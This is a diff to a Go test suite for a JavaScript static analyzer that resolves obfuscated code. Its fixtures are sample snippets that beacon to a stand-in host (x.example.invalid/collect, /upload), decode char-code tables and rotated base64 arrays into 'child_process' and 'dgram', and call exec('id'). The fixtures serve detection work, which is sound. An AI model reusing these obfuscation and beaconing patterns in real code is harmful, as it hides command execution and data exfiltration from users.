@@ -2243,7 +2243,8 @@ func TestNestedExportProps(t *testing.T) {
 	f := Analyze("index.js", []byte(`const https = require("https"); const K = require("./k"); const C = require("./cfg.json");
 https.get("https://" + K.host + K.path.p);
 https.request("https://" + K.host + C.path.p);
-const { path: P } = require("./cfg.json"); fetch("https://" + K.host + P.p);`), lim)
+const { path: P } = require("./cfg.json"); fetch("https://" + K.host + P.p);
+const Q = C.path; navigator.sendBeacon("https://" + K.host + Q.p);`), lim)
 	for callee, want := range map[string]string{"https.get": "https://x.example.invalid/collect", "https.request": "https://x.example.invalid/upload"} {
 		if c := hasCall(f, callee); c == nil || len(c.Args) == 0 || c.Args[0].Value != want {
 			t.Errorf("%s: %+v, want %q", callee, c, want)
@@ -2252,6 +2253,10 @@ const { path: P } = require("./cfg.json"); fetch("https://" + K.host + P.p);`), 
 	// a member of a JSON file's object destructured under another name
 	if c := hasCall(f, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/upload" {
 		t.Errorf("fetch: %+v, want P.p as C.path.p", c)
+	}
+	// and one held by a variable of its own (const Q = C.path)
+	if c := hasCall(f, "navigator.sendBeacon"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/upload" {
+		t.Errorf("sendBeacon: %+v, want Q.p as C.path.p", c)
 	}
 }
 
@@ -2613,5 +2618,69 @@ version();`), DefaultLimits())
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("process calls (-want +got):\n%s", diff)
+	}
+}
+
+// TestLoopDecoder covers a decoder that builds its result in a loop over
+// an array's indices (let s = ""; for (…) s += String.fromCharCode(t[i]
+// - bias); return s), in the file and exported with its table by another
+// module.
+func TestLoopDecoder(t *testing.T) {
+	probes := Analyze("probes.js", []byte(`const PACKED = [102, 107, 108, 111, 103, 98, 115, 117, 114, 102, 104, 118, 118];
+function unpack(t, bias) { let s = ""; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] - bias); return s; }
+require(unpack([103, 106, 117, 100, 112], 3));
+module.exports = { PACKED, unpack };`), DefaultLimits())
+	if !hasImport(probes, "dgram") {
+		t.Errorf("in the file: imports %+v", probes.Imports)
+	}
+	lim := DefaultLimits()
+	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
+		src, ok := probes.ExportHelpers[prop]
+		return src, ok && spec == "./probes"
+	}
+	lim.ModuleArray = func(from, spec, prop string) ([]string, bool) {
+		arr, ok := probes.ExportArrays[prop]
+		return arr, ok && spec == "./probes"
+	}
+	f := Analyze("agent.js", []byte(`const { PACKED, unpack } = require("./probes"); require(unpack(PACKED, 3)).exec("id");`), lim)
+	if hasCall(f, "child_process.exec") == nil {
+		t.Errorf("from another module: imports %+v", f.Imports)
+	}
+	// a loop that does something else than add to its result
+	g := Analyze("a.js", []byte(`function sum(t) { let s = ""; for (let i = 0; i < t.length; i++) log(t[i]); return s; }
+require(sum([104, 116]) + "x");`), DefaultLimits())
+	if len(g.Imports) != 1 || g.Imports[0].Module != "" {
+		t.Errorf("a logging loop folded: %+v", g.Imports)
+	}
+}
+
+// TestModularStringArray covers a string-array decoder that wraps its
+// shifted index around the array's length (i = (i + 0x3) % A.length)
+// instead of subtracting an offset.
+func TestModularStringArray(t *testing.T) {
+	src := `var A = ['Y2hpbGRfcHJvY2Vzcw==', 'ZXhlYw==', 'aWQ=', 'b3M=', 'eDE='];
+(function (a, n) { while (--n) a.push(a.shift()); })(A, 0x4);
+var d = function (i) { i = (i + 0x3) % A.length; var s = A[i]; return typeof atob === 'function' ? atob(s) : Buffer.from(s, 'base64').toString(); };
+require(d(4))[d(0)](d(1));`
+	f := Analyze("a.js", []byte(src), DefaultLimits())
+	if c := hasCall(f, "child_process.exec"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "id" {
+		t.Errorf("exec = %+v, imports %+v", c, f.Imports)
+	}
+}
+
+// TestSchemeModule covers require of a URL's scheme (http or https):
+// its get is a network call.
+func TestSchemeModule(t *testing.T) {
+	f := Analyze("a.js", []byte(`const u = new URL(target); require(u.protocol.slice(0, -1)).get(u, (r) => r.pipe(out));
+require(u.hostname.slice(0, 3)).get(u);`), DefaultLimits())
+	var got []string
+	for _, c := range f.Calls {
+		if strings.HasSuffix(c.Callee, ".get") {
+			got = append(got, c.Callee)
+		}
+	}
+	// (a module named after the host is no scheme's)
+	if diff := cmp.Diff([]string{"https.get", "require().get"}, got); diff != "" {
+		t.Errorf("get calls (-want +got):\n%s", diff)
 	}
 }
